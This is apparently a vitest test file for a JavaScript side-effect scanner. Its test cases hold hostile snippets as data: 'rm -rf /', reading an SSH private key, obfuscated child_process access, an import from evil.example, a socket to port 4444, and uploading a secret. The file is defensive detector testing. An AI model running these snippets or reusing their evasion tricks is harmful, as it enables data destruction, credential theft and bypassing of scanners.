import { assert, array, constantFrom, property, string } from 'fast-check';
import { describe, expect, test } from 'vitest';
import { scanJavaScript } from '../../../../../packages/effects/src/code/javascript/scan.ts';
import type { CodeContext } from '../../../../../packages/effects/src/code/calls.ts';
import { codeContext, showEffect } from '../../showEffect.ts';
import { boundedCost } from '../../../../support/boundedCost.ts';

const context: CodeContext = codeContext('javascript', (_language, source) => scanJavaScript(source, context));
const effectsOf = (source: string): string[] => [...new Set(scanJavaScript(source, context).map(showEffect))];

describe('scanJavaScript', () => {
  test.each<readonly [string, readonly string[]]>([
    [`fs.readFileSync(process.argv[2])`, ['read path:a file known only at run time ?']],
    ['fs.readFileSync(`.env.${process.argv[2]}`)', ['read path:a file known only at run time ?', 'read path:.env.* ?']],
    [`fs.readFileSync([46, 101].map(c => String.fromCharCode(c)).join(''))`, ['unknown !']],
    [`fs.readFileSync('.XeXnXv'.replace(/X/g, ''))`, ['unknown !']],
    [
      `for (const e of fs.readdirSync('a', { withFileTypes: true, recursive: true })) { const f = path.join(e.parentPath, e.name); fs.writeFileSync(f, fs.readFileSync(f)); }`,
      ['read /w/a ?', 'write /w/a/** ?', 'read /w/a/**/* ?'],
    ],
    [
      `for (const f of fs.readdirSync('a')) fs.writeFileSync('a/' + f, '')`,
      ['read /w/a ?', 'write /w/a/* ?', 'write /w/a/.* ?', 'unknown ? !'],
    ],
    [`require('child_process').exec('rm -rf /')`, ['execute [rm -rf /]']],
    [`require('node:child_process').execSync('id')`, ['execute [id]']],
    [`import { exec as e } from 'child_process'; e('id')`, ['execute [id]']],
    [`import * as cp from 'child_process'; cp['ex' + 'ec']('id')`, ['execute [id]']],
    [`const {exec: run} = require('child_process'); run(\`id\`)`, ['execute [id]']],
    [`const cp = require('child_process'); const f = cp.exec; f('id')`, ['execute [id]']],
    [`const cp = await import('child_process'); cp.default.exec('id')`, ['execute [id]']],
    [`require('child\\x5fprocess').exec('id')`, ['execute [id]']],
    [`process.mainModule.require('child_process').exec('id')`, ['execute [id]']],
    [`module.constructor._load('child_process').exec('id')`, ['execute [id]']],
    [`globalThis.process.getBuiltinModule('child_process').exec('id')`, ['execute [id]']],
    [`require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==','base64').toString()).exec('id')`, ['execute [id]']],
    [`require(['child','process'].join('_')).exec(['i','d'].join(''))`, ['execute [id]']],
    [`require('ssecorp_dlihc'.split('').reverse().join('')).exec('id')`, ['execute [id]']],
    [`const {promisify} = require('util'); promisify(require('child_process').exec)('id')`, ['execute [id]']],
    [`require('child_process').exec.call(null, 'id')`, ['execute [id]']],
    [`require('child_process').exec.apply(null, ['id'])`, ['execute [id]']],
    [`require('child_process').exec.bind(null)('id')`, ['execute [id]']],
    [`require('child_process').spawn('rm', ['-rf', '/a b'])`, [`execute [rm -rf '/a b']`]],
    [`require('child_process').spawnSync('echo hi; id', {shell: true})`, ['execute [echo hi; id]']],
    [`require('child_process').exec(cmd)`, ['unknown !']],
    [`const run = c => require('child_process').execSync(c); run('id')`, ['execute [id] ?']],
    [`require(name)`, ['unknown !']],
    [`require('fs').rmSync('/etc', {recursive: true})`, ['delete /etc/**']],
    [`const {rmSync: z} = require('fs'); z('a')`, ['delete /w/a']],
    [`import { promises as p } from 'fs'; await p.unlink('../x')`, ['delete /x']],
    [`import fs from 'node:fs/promises'; fs.writeFile('a', 'b')`, ['write /w/a']],
    [`import fs from 'fs'; fs.rmSync(path)`, ['unknown !']],
    [`const fs = require('fs'); for (const f of ['a', 'b']) fs.unlinkSync(f)`, ['delete /w/a ?', 'delete /w/b ?']],
    [`const fs = require('fs'); fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')`, ['read /home/u/.ssh/id_rsa']],
    [`const path = require('path'), fs = require('fs'); fs.rmSync(path.join(__dirname, '..', 'x'))`, ['delete /x']],
    [`const p = flag ? '/etc/a' : '/etc/b'; require('fs').writeFileSync(p, '')`, ['write /etc/a', 'write /etc/b']],
    [`const fs = require('fs'); fs.renameSync('a', 'b')`, ['read /w/a', 'delete /w/a', 'write /w/b']],
    [`const fs = require('fs'); fs.openSync('a', 'w'); fs.openSync('b')`, ['write /w/a', 'read /w/b']],
    [`const fs = require('fs'); fs[m]('x')`, ['unknown !']],
    [`const fs = require('fs'); ['a'].forEach(fs.unlinkSync)`, ['unknown !']],
    [`const fs = require('fs'); helper(fs)`, ['unknown !']],
    [
      `const args = ['a']; args.push('/etc'); require('child_process').spawn('rm', args)`,
      ['execute [rm a]', 'execute [rm *]', 'unknown !'],
    ],
    [`eval('require("child_process").exec("id")')`, ['execute [id]']],
    [`(0, eval)('require("fs").rmSync("x")')`, ['delete /w/x']],
    [`\\u0065val("require('fs').rmSync('x')")`, ['delete /w/x']],
    [`globalThis["ev" + "al"](code)`, ['unknown !']],
    ['globalThis[`eval`](code)', ['unknown !']],
    [`new Function('return process')()`, ['unknown !']],
    [`new Function('require("fs").rmSync("x")')()`, ['delete /w/x']],
    [`[].constructor.constructor('return process')()`, ['unknown !']],
    [`[].constructor.constructor(code)()`, ['unknown !']],
    [`(() => {}).constructor(code)()`, ['unknown !']],
    [`Object.getPrototypeOf(async function(){}).constructor('x')()`, ['unknown !']],
    [`[][a][b](code)()`, ['unknown !']],
    [`setTimeout('require("fs").rmSync("x")', 1)`, ['delete /w/x']],
    [`setTimeout(() => {}, 1)`, []],
    [`with (process) { binding('fs') }`, ['unknown !']],
    [`process.binding('spawn_sync')`, ['unknown !']],
    [`process.dlopen(m, 'x.node')`, ['unknown !']],
    [`require('./native.node')`, ['unknown !']],
    [`require('./script')`, ['read /w/script', 'execute [./script]']],
    [`require('./package.json')`, ['read /w/package.json']],
    [`import('data:text/javascript,x')`, ['unknown !']],
    [`import x from 'https://evil.example/x.js'`, ['network download evil.example', 'unknown !']],
    [`fetch('https://a.example/x')`, ['network download a.example']],
    [`fetch('https://a.example/x', {method: 'POST', body: data})`, ['network upload a.example']],
    [`fetch(url)`, ['network both * !']],
    [`require('https').get('https://a.example')`, ['network download a.example']],
    [`require('http').request({hostname: 'a.example', method: 'POST'})`, ['network upload a.example']],
    [`require('net').connect(4444, '10.0.0.1')`, ['network both 10.0.0.1']],
    [`require('net').createServer().listen(1)`, ['network listen *']],
    [`require('axios').post('https://a.example', secret)`, ['network upload a.example']],
    [`Deno.remove('x', {recursive: true})`, ['delete /w/x/**']],
    [`await Bun.$\`rm -rf /\``, ['execute [rm -rf /]']],
    [`require('vm').runInThisContext("require('fs').rmSync('x')")`, ['delete /w/x']],
    [`class A { static { require('fs').rmSync('x') } }`, ['delete /w/x ?']],
    ['#!/usr/bin/env node\nrequire("fs").rmSync("x")', ['delete /w/x']],
    ['x = 1 <!-- comment\nrequire("fs").rmSync("x")', ['delete /w/x']],
    [`enum E { A } let x: string = <any>y; require('fs').rmSync('x' as string)`, ['delete /w/x']],
    [`@dec class A {} ; require('fs').rmSync('x')`, ['delete /w/x']],
    [`return require('fs').rmSync('x')`, ['delete /w/x']],
    [`%Native(1)`, ['unknown !']],
    [`{ using x = require('fs').rmSync('y') }`, ['delete /w/y']],
    [`import defer * as fs from 'fs'; fs.rmSync('x')`, ['delete /w/x']],
    [`helper(require('fs'))`, ['unknown !']],
    [`({...require('fs')}).rmSync('x')`, ['unknown !']],
    [`import('fs').then(fs => fs.rmSync('x'))`, ['unknown !']],
    [`const f = g(x ? eval : 0)`, ['unknown !']],
    [`class A { run = require('child_process').exec }`, ['unknown ? !']],
    [`export default require('fs')`, ['unknown !']],
    [`import cp, { execSync } from 'node:child_process'; execSync('a'); cp.execSync('b')`, ['execute [a]', 'execute [b]']],
    [`import { createRequire } from 'module'; createRequire(import.meta.url)('fs').rmSync('x')`, ['delete /w/x']],
    [`globalThis.eval.call(null, "require('fs').rmSync('x')")`, ['delete /w/x']],
    ["eval`require('fs').rmSync('x')`", ['delete /w/x']],
    [`"".sub.constructor("code")()`, ['unknown !']],
    [`process.env.NODE_OPTIONS = '--require ./x'`, ['environment variable:NODE_OPTIONS']],
    [`function f() { s = require('fs').rmSync } f(); s('x')`, ['delete /w/x']],
    [`let s; { s = require('fs').rmSync } s('x')`, ['delete /w/x']],
    ['rm -rf /', ['unknown !']],
    ['(((', ['unknown !']],
  ])('%s', (source, effects) => {
    expect(effectsOf(source)).toEqual(effects);
  });

  test.each([
    `console.log("require('child_process').exec('rm -rf /')")`,
    `// eval(code)\n/* fs.rmSync('/') */`,
    `const s = 'eval'; console.log(s.length, [1, 2, 3].map(x => x * 2).join(','))`,
    `const exec = s => s.trim(); exec('rm -rf /')`,
    `/a(b)/.exec('abc'); regex.exec(text)`,
    `console.log(process.version, process.argv[2], process.env.NODE_ENV, process.memoryUsage().rss)`,
    `const os = require('os'); console.log(os.cpus().length)`,
    `const handlers = { a() {} }; handlers[kind](event)`,
    `class A { clone() { return new this.constructor(this.x) } } console.log(new A().constructor.name)`,
    `import type { exec } from 'child_process'`,
    `const d = new Date(); JSON.stringify({ d }); Object.keys(process.env).length`,
    `import assert from 'assert'; import { test } from 'node:test'; test('x', () => assert.equal(1, 1))`,
    `const _ = require('lodash'); _.map([1], x => x)`,
  ])('finds nothing in %s', source => {
    expect(effectsOf(source)).toEqual([]);
  });

  test('ends for every text', () => {
    const piece = constantFrom(
      'require(',
      '"fs"',
      ')',
      '.rmSync',
      '[',
      ']',
      '+',
      'eval',
      '=>',
      '{',
      '}',
      'const a=',
      ';',
      '`${',
      '`',
      'a',
      'new ',
      'class ',
      '...',
      'with(',
      '\u0000',
      '\ud800',
    );
    assert(
      property(array(piece, { maxLength: 30 }), string({ unit: 'binary' }), (parts, noise) => {
        expect(Array.isArray(scanJavaScript(parts.join(''), context))).toBe(true);
        expect(Array.isArray(scanJavaScript(noise, context))).toBe(true);
      }),
      { numRuns: process.env['LICET_FUZZ'] === undefined ? 500 : 20_000 },
    );
  });

  test.each([
    ['nested parentheses', '('.repeat(20_000) + ')'.repeat(20_000)],
    ['nested arrays', '['.repeat(20_000)],
    ['a long sum', `require('fs').rmSync(${'"a"+'.repeat(20_000)}"b")`],
    ['a chain of names', `const a0=eval;${Array.from({ length: 700 }, (_, at) => `const a${at + 1}=a${at};`).join('')}a700(x)`],
    ['many meanings of a name', `let x=eval;${Array.from({ length: 40 }, (_, at) => `x="${at}";`).join('')}x(y)`],
    ['names that refer to each other', 'var a=b,b=c,c=a; require(a).exec(b)'],
    ['a growing text', `let s='aaaaaaaaaa';${'s=s+s;'.repeat(40)} require(s)`],
    ['many choices', `require('fs').rmSync(${'(x?"a":"b")+'.repeat(30)}"")`],
    ['many calls', `require('fs').rmSync('a');`.repeat(5000)],
    ['too much text', 'x;'.repeat(200_000)],
  ])('is bounded for %s', (_name, source) => {
    const within = boundedCost();
    expect(effectsOf(source).length).toBeGreaterThan(0);
    within(1000);
  });
});
